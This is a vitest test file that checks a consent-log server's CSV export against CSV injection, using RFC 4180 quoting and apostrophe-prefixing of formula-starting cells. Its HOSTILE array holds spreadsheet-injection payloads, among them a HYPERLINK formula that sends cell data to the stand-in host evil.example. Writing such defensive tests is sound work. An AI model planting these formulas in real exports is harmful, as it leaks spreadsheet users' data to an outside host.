import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { seal } from '../../log-server/src/chain'
import type { NewRecord } from '../../log-server/src/store/store'
import { KEY, STORES, admin, receipt, testApp, type TestApp } from './support/stores'

/**
 * Issue #8, item 8: the CSV export read by a spreadsheet. Every field holding a separator (`,`, or
 * the `;` of locales whose list separator it is), a quote or a line break is quoted (RFC 4180), so
 * no part of it becomes a cell of its own; a cell that would start a formula (= + - @, tab, CR, and
 * their full-width forms) starts with `'` (OWASP, CSV injection).
 */

/** RFC 4180, strictly: fields separated by `,`, records by CRLF; a quoted field doubles its quotes. */
function parseCsv(text: string): { value: string; quoted: boolean }[][] {
  const rows: { value: string; quoted: boolean }[][] = []
  let row: { value: string; quoted: boolean }[] = []
  let i = 0
  for (;;) {
    let value = ''
    let quoted = false
    if (text[i] === '"') {
      quoted = true
      i++
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field')
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            value += '"'
            i += 2
            continue
          }
          i++
          break
        }
        value += text[i++]
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`a quote inside an unquoted field at ${i}`)
        value += text[i++]
      }
    }
    row.push({ value, quoted })
    if (text[i] === ',') {
      i++
      continue
    }
    if (text.startsWith('\r\n', i)) {
      i += 2
      rows.push(row)
      row = []
      if (i >= text.length) return rows
      continue
    }
    if (i >= text.length) {
      rows.push(row)
      return rows
    }
    throw new Error(`bare line break or junk after a quoted field at ${i}: ${JSON.stringify(text.slice(i, i + 10))}`)
  }
}

const HOSTILE = [
  'http://x/a;=1+1',
  ';=1+1',
  'a;b',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  'line\nbreak',
  'line\r\nbreak',
  'cr\ronly',
  '"quoted"',
  'a,b',
  'a"b;c',
  "'already",
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF20SUM(A1)',
  'plain',
]
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/

describe.each(STORES)('CSV export on %s', (kind) => {
  let t: TestApp
  beforeEach(async () => {
    t = await testApp(kind)
  })
  afterEach(async () => {
    await t.close()
  })

  test('hostile values come back whole, one cell each, quoted when they hold , ; " CR or LF, and never starting a formula', async () => {
    // Through the store: a record of an older version, or fields the schema lets through today.
    for (const v of HOSTILE) {
      const record: NewRecord = {
        receiptId: receipt().receiptId,
        consentId: receipt().consentId,
        revision: 1,
        method: v,
        categories: { analytics: true },
        services: {},
        timestamp: v,
        url: v,
        language: v,
        configHash: 'a1b2c3d4',
        profile: v,
        ip: v,
        userAgent: v,
      }
      expect((await t.fresh.store.insert(record, (prev, s) => seal(KEY, prev, s), t.clock.now)).status).toBe('created')
    }
    const res = await t.app.inject({ method: 'GET', url: '/api/export?format=csv', headers: admin })
    expect(res.statusCode).toBe(200)
    const rows = parseCsv(res.body)
    const header = rows[0].map((f) => f.value)
    expect(rows).toHaveLength(HOSTILE.length + 1)
    for (const row of rows) expect(row).toHaveLength(header.length)

    const col = (name: string) => header.indexOf(name)
    for (const [n, v] of HOSTILE.entries()) {
      const row = rows[n + 1]
      const expected = FORMULA_START.test(v) ? "'" + v : v
      for (const name of ['method', 'timestamp', 'url', 'language', 'profile', 'ip', 'userAgent']) {
        expect(row[col(name)].value, `${name} of ${JSON.stringify(v)}`).toBe(expected)
      }
    }
    for (const row of rows) {
      for (const f of row) {
        // Quoted whenever a spreadsheet could split it: the , of RFC 4180, the ; of other locales, quotes, line breaks.
        if (/[",;\r\n]/.test(f.value)) expect(f.quoted, JSON.stringify(f.value)).toBe(true)
        expect(FORMULA_START.test(f.value), JSON.stringify(f.value)).toBe(false)
      }
    }
    // Exactly: the example is one quoted cell.
    expect(res.body).toContain(',"http://x/a;=1+1",')
  })
})
